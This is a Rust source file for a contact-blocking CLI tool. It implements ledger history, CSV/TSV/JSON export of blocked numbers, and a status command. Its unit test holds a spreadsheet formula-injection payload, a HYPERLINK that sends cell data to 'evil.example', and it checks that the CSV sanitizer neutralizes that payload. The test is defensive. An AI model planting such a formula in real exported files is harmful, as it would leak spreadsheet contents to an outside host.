//! `history`, `export` and `ledger status`: what the ledger holds,
//! without the network.

use std::collections::HashMap;

use serde_json::json;

use crate::cli::args::{ExportArgs, ExportFormat, HistoryArgs};
use crate::cli::failure::{Failure, exit, fail};
use crate::cli::output::{Column, JsonArray, Table};
use crate::engine::{Engine, skipped_notice};
use crate::model::change::Change;
use crate::model::number::{format_phone, phone_digits, shown_jid};
use crate::protocol::{ErrorInfo, Job, JobResult, LedgerRead};
use crate::store::ledger::{HistoryEntry, HistoryResult, KnownState, LedgerStatus};

/// Actions the history prints at most.
const HISTORY_LIMIT: usize = 1_000_000;

/// The columns of `history` on a terminal: the time to the minute, the
/// number, action and result whole, the name cut to fit; the error, who
/// and why left out first on a narrow terminal (piped output and `--json`
/// carry them all).
const COLUMNS: [Column; 9] = [
    Column::keep("TIME (UTC)"),
    Column::keep("INSTANCE"),
    Column::keep("NUMBER"),
    Column::cut("NAME"),
    Column::keep("ACTION"),
    Column::keep("RESULT"),
    Column::spare("ERROR"),
    Column::spare("OPERATOR"),
    Column::spare("REASON"),
];

/// `history`: the ledger's actions, newest first, with the contact's name
/// from the saved contact list when there is one.
pub(crate) async fn history(engine: &mut Engine, args: HistoryArgs) -> Result<(), Failure> {
    let instance = match &args.instance {
        Some(name) => Some(super::choose::instance_index(engine, name)?),
        None => None,
    };
    let since = match &args.since {
        Some(day) => Some(crate::util::dates::day_start(day).map_err(|e| fail(exit::USAGE, e))?),
        None => None,
    };
    let (entries, contests) = read_history(engine, instance, since).await?;
    let names = cached_names(engine, &entries, &contests);
    let name_of = |e: &HistoryEntry| names.get(e.instance.as_str())?.get(&e.jid).cloned();
    if args.json {
        let mut out = JsonArray::stdout()?;
        for e in &entries {
            out.push(&history_json(e, name_of(e)))?;
        }
        out.finish()?;
    } else {
        let mut table = Table::with_columns(&COLUMNS);
        for e in &entries {
            let time = if table.is_terminal() {
                crate::util::dates::short(e.requested_at)
            } else {
                crate::util::dates::rfc3339(e.requested_at)
            };
            table.row(&history_fields(e, time, name_of(e)))?;
        }
        table.finish()?;
        if entries.is_empty() {
            let since = args.since.map(|day| format!(" since {day}"));
            crate::cli::output::say(&format!("no action recorded{}", since.unwrap_or_default()));
        }
    }
    Ok(())
}

/// The error of an action, and the count its answer gave.
fn outcome(e: &HistoryEntry) -> (Option<&str>, Option<i64>) {
    match &e.result {
        HistoryResult::Failed(why) => (Some(why.as_str()), None),
        HistoryResult::Done(count) => (None, *count),
        HistoryResult::Unanswered => (None, None),
    }
}

/// One action as `history --json` streams it.
fn history_json(e: &HistoryEntry, name: Option<String>) -> serde_json::Value {
    let (error, count) = outcome(e);
    json!({
        "at": crate::util::dates::rfc3339(e.requested_at),
        "instance": e.instance,
        "jid": e.jid,
        "lid": e.lid,
        "e164": phone_digits(&e.jid).map(|d| format!("+{d}")),
        "number": shown_jid(&e.jid),
        "name": name,
        "action": Change::of(e.block).verb(),
        "result": e.result.word(),
        "blocked_count": count,
        "error": error,
        "operator": e.operator,
        "reason": e.reason,
    })
}

/// One action as a row: time, instance, number, name, action, result,
/// error, operator, reason.
fn history_fields(e: &HistoryEntry, time: String, name: Option<String>) -> [String; 9] {
    let (error, _) = outcome(e);
    [
        time,
        e.instance.clone(),
        shown_jid(&e.jid),
        name.unwrap_or_else(|| "-".into()),
        Change::of(e.block).verb().to_string(),
        e.result.word().to_string(),
        error.unwrap_or_default().to_string(),
        e.operator.clone().unwrap_or_else(|| "-".into()),
        e.reason.clone().unwrap_or_else(|| "-".into()),
    ]
}

/// What the ledger says of contacts two desks' answers contest, by
/// (instance, JID): `desk-a blocked, desk-b unblocked 2 s apart`.
type Contests = HashMap<(String, String), String>;

/// The ledger's actions (of one instance or all, since a time), newest
/// first, and the contests of their contacts; rows it skipped are said
/// on stderr.
async fn read_history(
    engine: &mut Engine,
    instance: Option<usize>,
    since: Option<i64>,
) -> Result<(Vec<HistoryEntry>, Contests), Failure> {
    let read = LedgerRead::History {
        instance,
        since,
        limit: HISTORY_LIMIT,
    };
    let answer = engine
        .ask(Job::Read(read), |r| matches!(r, JobResult::History { .. }))
        .await;
    let JobResult::History { result, .. } = answer else {
        return Err(fail(exit::INTERNAL, "unexpected answer from the worker"));
    };
    let (entries, skipped) = result.map_err(unread)?;
    if let Some(notice) = skipped_notice(skipped) {
        crate::cli::output::say(&notice);
    }
    let known = engine
        .ask(Job::Read(LedgerRead::Known), |r| {
            matches!(r, JobResult::Known(_))
        })
        .await;
    let contests = match known {
        JobResult::Known(Ok(Some(known))) => known
            .into_iter()
            .filter_map(|k| Some(((k.instance, k.jid), k.contest?)))
            .collect(),
        _ => Contests::new(),
    };
    Ok((entries, contests))
}

/// A ledger that could not be read.
fn unread(e: ErrorInfo) -> Failure {
    fail(exit::INTERNAL, e.summary())
}

/// The names of each instance's numbers in `entries`, from its saved
/// contact list (no network), found in one pass over it; a contested
/// contact's with the contest after it.
fn cached_names<'a>(
    engine: &'a Engine,
    entries: &[HistoryEntry],
    contests: &Contests,
) -> HashMap<&'a str, HashMap<String, String>> {
    let mut names = HashMap::new();
    let data_dir = engine.data_dir();
    for inst in &engine.profile().instances {
        let jids: Vec<&str> = entries
            .iter()
            .filter(|e| e.instance == inst.name)
            .map(|e| e.jid.as_str())
            .collect();
        if jids.is_empty() {
            continue;
        }
        let path = crate::store::cache::path_for(data_dir, inst.base_url.as_str(), &inst.name);
        if let Ok(Some((store, _))) = crate::store::cache::load(&path) {
            names.insert(inst.name.as_str(), store.names_of(jids));
        }
    }
    // A contested contact says so beside its name.
    for ((instance, jid), contest) in contests {
        let Some(inst) = engine
            .profile()
            .instances
            .iter()
            .find(|i| &i.name == instance)
        else {
            continue;
        };
        let of = names.entry(inst.name.as_str()).or_default();
        let name = of.get(jid).map_or("not in contacts", String::as_str);
        let named = format!("{name} · contested: {contest}");
        of.insert(jid.clone(), named);
    }
    names
}

/// The fields of `export`, in order: CSV's header, TSV's columns.
const EXPORT_FIELDS: [&str; 8] = [
    "instance",
    "jid",
    "lid",
    "e164",
    "number",
    "changed_at",
    "operator",
    "reason",
];

/// `export`: the numbers the ledger knows as blocked, as CSV, TSV or
/// JSON.
pub(crate) async fn export(engine: &mut Engine, args: ExportArgs) -> Result<(), Failure> {
    if let Some(name) = &args.instance {
        super::choose::instance_index(engine, name)?;
    }
    let answer = engine
        .ask(Job::Read(LedgerRead::Known), |r| {
            matches!(r, JobResult::Known(_))
        })
        .await;
    let JobResult::Known(known) = answer else {
        return Err(fail(exit::INTERNAL, "unexpected answer from the worker"));
    };
    // The ledger's first read in this run is always whole.
    let known = known.map_err(unread)?.unwrap_or_default();
    let order = |name: &str| super::choose::instance_index(engine, name).unwrap_or(usize::MAX);
    let mut rows: Vec<KnownState> = known
        .into_iter()
        .filter(|k| k.blocked && args.instance.as_ref().is_none_or(|n| &k.instance == n))
        .collect();
    rows.sort_by(|a, b| (order(&a.instance), &a.jid).cmp(&(order(&b.instance), &b.jid)));
    let fields = rows.iter().map(export_fields);
    if args.json {
        let mut out = JsonArray::stdout()?;
        for k in &rows {
            out.push(&export_json(k))?;
        }
        out.finish()?;
        return Ok(());
    }
    let mut out = crate::cli::output::lines(1 << 16);
    match args.format {
        ExportFormat::Csv => {
            out.line(&EXPORT_FIELDS.join(","))?;
            for row in fields {
                let cells: Vec<String> = row.iter().map(|f| csv_cell(f)).collect();
                out.line(&cells.join(","))?;
            }
        }
        ExportFormat::Tsv => {
            for row in fields {
                out.row(&row)?;
            }
        }
    }
    out.flush()?;
    Ok(())
}

/// A known-blocked number's fields, as [`EXPORT_FIELDS`] names them.
fn export_fields(k: &KnownState) -> [String; 8] {
    let digits = phone_digits(&k.jid);
    [
        k.instance.clone(),
        k.jid.clone(),
        k.lid.clone().unwrap_or_default(),
        digits.map(|d| format!("+{d}")).unwrap_or_default(),
        digits.map(format_phone).unwrap_or_default(),
        crate::util::dates::rfc3339(k.changed_at),
        k.operator.clone().unwrap_or_default(),
        k.reason.clone().unwrap_or_default(),
    ]
}

/// A known-blocked number as `export --json` streams it.
fn export_json(k: &KnownState) -> serde_json::Value {
    json!({
        "instance": k.instance,
        "jid": k.jid,
        "lid": k.lid,
        "e164": phone_digits(&k.jid).map(|d| format!("+{d}")),
        "number": phone_digits(&k.jid).map(format_phone),
        "changed_at": crate::util::dates::rfc3339(k.changed_at),
        "operator": k.operator,
        "reason": k.reason,
    })
}

/// `ledger status`: which ledger, its schema, size and counts.
pub(crate) async fn status(engine: &mut Engine, json_out: bool) -> Result<(), Failure> {
    let answer = engine
        .ask(Job::Read(LedgerRead::Status), |r| {
            matches!(r, JobResult::Status(_))
        })
        .await;
    let JobResult::Status(st) = answer else {
        return Err(fail(exit::INTERNAL, "unexpected answer from the worker"));
    };
    let st: LedgerStatus = st.map_err(unread)?;
    if json_out {
        crate::cli::output::json(&st)?;
        return Ok(());
    }
    let mut table = Table::stdout();
    let rows = [
        ("ledger", format!("{} {}", st.backend, st.location)),
        (
            "schema",
            format!(
                "{} (this build knows up to {})",
                st.schema, st.newest_schema
            ),
        ),
        ("size", format!("{:.1} KiB", st.bytes as f64 / 1024.0)),
        ("requests", st.actions.to_string()),
        ("known blocked", st.blocked.to_string()),
        ("unfinished batches", st.open_batches.to_string()),
    ];
    for (what, value) in &rows {
        table.row(&[*what, value.as_str()])?;
    }
    table.finish()?;
    Ok(())
}

/// One CSV cell, safe to open in a spreadsheet (OWASP's rules against
/// formula injection): a cell that starts with `=`, `+`, `-`, `@`, a tab
/// or a carriage return gets a leading `'` so it stays text, and any cell
/// so changed, or holding a comma, quote or line break, is quoted with
/// its quotes doubled.
pub fn csv_cell(field: &str) -> String {
    let formula = field.starts_with(['=', '+', '-', '@', '\t', '\r']);
    // No control character or escape reaches whoever opens the file.
    let field = crate::util::sanitize::clean(field);
    let field = if formula {
        format!("'{field}")
    } else {
        field.to_string()
    };
    if formula || field.contains([',', '"', '\n', '\r']) {
        format!("\"{}\"", field.replace('"', "\"\""))
    } else {
        field
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn csv_cells_never_run_as_formulas() {
        assert_eq!(csv_cell("sales"), "sales");
        assert_eq!(csv_cell("a,b"), "\"a,b\"");
        assert_eq!(
            csv_cell("=HYPERLINK(\"http://evil.example/?\"&A1;\"click\")@lid"),
            "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1;\"\"click\"\")@lid\""
        );
        for risky in ["+1", "-1+2", "@SUM(A1)", "\tx", "\rx"] {
            let cell = csv_cell(risky);
            assert!(cell.starts_with("\"'"), "{risky:?} -> {cell}");
        }
        assert_eq!(csv_cell("+447912345678"), "\"'+447912345678\"");
        assert_eq!(
            csv_cell("1\x1b[2J\x07@lid"),
            "1[2J@lid",
            "escapes never reach the file"
        );
    }
}
